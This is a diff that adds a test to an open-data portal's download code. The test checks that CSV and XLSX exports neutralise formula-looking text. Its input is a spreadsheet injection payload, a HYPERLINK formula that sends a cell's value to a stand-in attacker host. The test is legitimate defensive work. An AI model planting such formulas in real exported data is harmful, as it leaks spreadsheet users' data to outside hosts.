@@ -316,3 +316,27 @@ def test_a_developer_sees_only_their_own_keys(client, newcomer, li_wei):
     login(client, li_wei)
     assert client.post(f"/opendata/developer/keys/{token.pk}/revoke/").status_code == 404
     assert ApiToken.objects.get(pk=token.pk).revoked_at is None
+
+
+def test_downloads_write_formula_looking_text_as_text_and_numbers_as_numbers(client, air):
+    from yiwang.datahub.models import Record
+
+    record = Record.objects.filter(resource__code="500103-AQ-0001").order_by("pk").first()
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
+    Record.objects.filter(pk=record.pk).update(
+        values={**record.values, "station": formula, "aqi": -5, "level": "-12.5"}
+    )
+
+    table = list(
+        csv.reader(
+            io.StringIO(body(client.get("/opendata/dataset/air-quality/download.csv")).decode("utf-8-sig"))
+        )
+    )
+    row = next(r for r in table if formula in r[0])
+    assert row[0] == "'" + formula and row[2] == "-5" and row[3] == "-12.5"
+    sheet = load_workbook(io.BytesIO(body(client.get("/opendata/dataset/air-quality/download.xlsx")))).active
+    cells = next(r for r in sheet.iter_rows(values_only=True) if formula in str(r[0]))
+    assert cells[0] == "'" + formula and cells[2] == -5 and cells[3] == "-12.5"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+    rows = json.loads(body(client.get("/opendata/dataset/air-quality/download.json")))
+    assert any(r["station"] == formula for r in rows)  # JSON is for programs: the value as stored
